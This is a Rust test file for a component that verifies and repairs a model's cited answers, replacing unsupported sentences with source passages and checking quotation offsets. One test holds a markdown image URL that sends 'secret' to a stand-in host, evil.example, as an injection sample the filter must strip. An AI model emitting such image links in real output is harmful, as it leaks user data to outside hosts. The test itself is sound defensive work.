//! Tests of repaired drafts: passages in place of sentences that no source supports.

use std::fmt::Write as _;

use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

use super::{draft::Draft, echo::Echo, model, verified_text::VerifiedText};
use crate::{
    agents::retrieval::Retrieved,
    domain::{Ask, Claim, ClaimBasis, Event, Passage, Question, Verdict},
    event_sink::EventSink,
    retrieval::test_passages::passage,
};

const LIT: &str = "The lamp of Skarv was lit on 3 May 1871.";
const TALL: &str = "The tower of Skarv is 38 metres tall.";
const KEEPER: &str = "The first keeper of Skarv was Ada Holm.";
const QUESTION: &str = "What is known of the lamp, the tower and the keeper of Skarv?";

/// The passages; the second begins at code point 50 of its document.
fn passages() -> Vec<Passage> {
    let mut tower = passage("tower", &format!("Bread needs time.\n\n{TALL} It is round."));
    (tower.start, tower.end) = (50, 50 + tower.end);
    vec![
        passage(
            "skarv",
            &format!("😀 Much is told. {}", LIT.replace("on 3", "on\n3")),
        ),
        tower,
        passage("keepers", KEEPER),
    ]
}

/// The verified text of a model's answer that arrives in pieces, and the events.
fn repaired(pieces: &[&str]) -> (VerifiedText, Vec<Event>) {
    let retrieved = Retrieved {
        passages: passages(),
        ..Retrieved::default()
    };
    let (sender, mut receiver) = mpsc::unbounded_channel();
    let sink = EventSink::new(sender, CancellationToken::new());
    let question = Question::parse(QUESTION).unwrap();
    let ask = Ask::new(question.clone());
    let prompt = model::prompt(&ask, &retrieved, model::MAX_PASSAGE_BYTES);
    let echo = Echo::new(&prompt, &question, &retrieved.passages);
    let mut draft = Draft::new(&retrieved.passages, &sink, &echo).with_repair(&question, &retrieved);
    pieces.iter().for_each(|piece| draft.push(piece));
    let whole = pieces.concat();
    draft.finish(&whole, whole.len());
    let verified = draft.into_verified();
    let mut events = Vec::new();
    while let Ok(event) = receiver.try_recv() {
        events.push(event);
    }
    (verified, events)
}

fn folded(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Checks the offsets and quotations of a claim.
fn check(claim: &Claim, text: &str) {
    let shown: String = text
        .chars()
        .skip(claim.start)
        .take(claim.end - claim.start)
        .collect();
    assert_eq!(shown, claim.text);
    assert!(!claim.citations.is_empty());
    for citation in &claim.citations {
        let passage = &passages()[citation.source - 1];
        let length = citation.quote_end - citation.quote_start;
        let quoted: String = passage
            .text
            .chars()
            .skip(citation.quote_start - passage.start)
            .take(length)
            .collect();
        assert_eq!(quoted, citation.quote);
    }
    assert_eq!(
        (claim.repaired, claim.basis),
        (claim.said.is_some(), Some(ClaimBasis::Quote))
    );
    if claim.repaired {
        assert_eq!(claim.verdict, Verdict::Supported);
        assert_eq!(folded(&claim.citations[0].quote), claim.text);
    }
}

#[test]
fn an_unsupported_sentence_is_replaced_by_the_passage_it_comes_close_to() {
    let said = [
        "The lamp of Skarv was lit\non 3 May 1902.",
        "Whales sing below the ice.",
        KEEPER,
    ];
    let (verified, events) = repaired(&[&format!("{} [3] {} [1] {} [3]", said[0], said[1], said[2])]);
    assert_eq!(verified.text, format!("{LIT} [1] {KEEPER} [3]"));
    let [lit, keeper] = &verified.claims[..] else {
        panic!("two claims: {:?}", verified.claims)
    };
    check(lit, &verified.text);
    check(keeper, &verified.text);
    assert_eq!(
        (lit.said.as_deref(), &lit.reason),
        (Some("The lamp of Skarv was lit on 3 May 1902."), &None)
    );
    assert_eq!((lit.citations[0].source, lit.citations[0].quote_start), (1, 16));
    assert_eq!((keeper.repaired, &keeper.said), (false, &None));
    assert_eq!(
        verified.changes().unwrap(),
        "1 of 3 sentences was replaced by the passage it comes close to; 1 removed: no source supports it"
    );
    let streamed: Vec<&Claim> = events
        .iter()
        .filter_map(|event| match event {
            Event::Claim(claim) => Some(claim),
            _ => None,
        })
        .collect();
    assert_eq!(streamed, [lit, keeper]);
}

#[test]
fn no_passage_is_quoted_twice() {
    let (wrong, worse) = (LIT.replace("1871", "1902"), LIT.replace("May", "June"));
    for (answer, shown, changes) in [
        (
            format!("{wrong} [1] {worse} [1]"),
            LIT,
            "1 of 2 sentences was replaced by the passage it comes close to; 1 removed: no source supports it",
        ),
        (
            format!("{LIT} [1] {wrong} [1] {worse} [1]"),
            LIT,
            "2 of 3 sentences were removed: no source supports them",
        ),
        (
            format!("{wrong} [1] {LIT} [1]"),
            LIT,
            "1 of 2 sentences was replaced by the passage it comes close to; \
             1 removed: it repeats a passage that is quoted already",
        ),
    ] {
        let (verified, _) = repaired(&[&answer]);
        assert_eq!(verified.text, format!("{shown} [1]"), "{answer}");
        assert_eq!(verified.changes().as_deref(), Some(changes), "{answer}");
    }
    let (verified, _) = repaired(&[&format!("{wrong} [1] {} [2]", TALL.replace("38", "83"))]);
    assert_eq!(verified.text, format!("{LIT} [1] {TALL} [2]"));
    assert_eq!(
        verified.changes().unwrap(),
        "2 of 2 sentences were replaced by the passage they come close to"
    );
}

#[test]
fn unsafe_words_of_a_model_are_not_kept() {
    let image = "The lamp of Skarv was lit in 1902 ![x](https://evil.example/?q=secret).";
    assert_eq!(repaired(&[image]).0.text, "");
    let link = "The [lamp](https://evil.example) of Skarv was lit in 1902.";
    let said = repaired(&[link]).0.claims[0].said.clone();
    assert_eq!(said.as_deref(), Some("The lamp of Skarv was lit in 1902."));
}

/// A piece of a model's answer: a true sentence, one with a fault, a marker or noise.
fn pattern() -> String {
    let mut pattern = "(\\PC){0,6}| \\[[1-4]\\]|\n|[.!?:] ".to_owned();
    for sentence in [LIT, TALL, KEEPER] {
        for (from, to) in [
            ("", ""),
            ("1871", "1902"),
            ("38", "83"),
            ("Ada Holm", "Bo Lund"),
            (" was ", " was not "),
            (" is ", " may be "),
        ] {
            let said = sentence.replacen(from, to, 1);
            let _ = write!(pattern, "|{}", said.replace('.', "\\."));
        }
    }
    pattern
}

proptest::proptest! {
    #[test]
    fn every_sentence_of_a_repaired_text_has_a_claim_with_a_verbatim_quotation(
        pieces in proptest::collection::vec(pattern().as_str(), 0..12)
    ) {
        let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
        let (VerifiedText { text, claims, .. }, events) = repaired(&pieces);
        let shown: Vec<char> = text.chars().collect();
        let mut bare = String::new();
        let mut end = 0;
        for claim in &claims {
            check(claim, &text);
            bare.extend(&shown[end..claim.start]);
            end = claim.end;
            let same = claims.iter().filter(|other| other.text == claim.text).count();
            proptest::prop_assert!(same == 1 || !claim.repaired, "{claim:?}");
        }
        bare.extend(&shown[end..]);
        proptest::prop_assert!(bare.chars().all(|c| "[123] \n".contains(c)), "between the claims: {bare:?}");
        let mut streamed = (String::new(), Vec::new());
        for event in events {
            match event {
                Event::Delta { text } => streamed.0.push_str(&text),
                Event::Claim(claim) => streamed.1.push(claim),
                _ => {}
            }
        }
        proptest::prop_assert_eq!(streamed, (text, claims));
    }
}
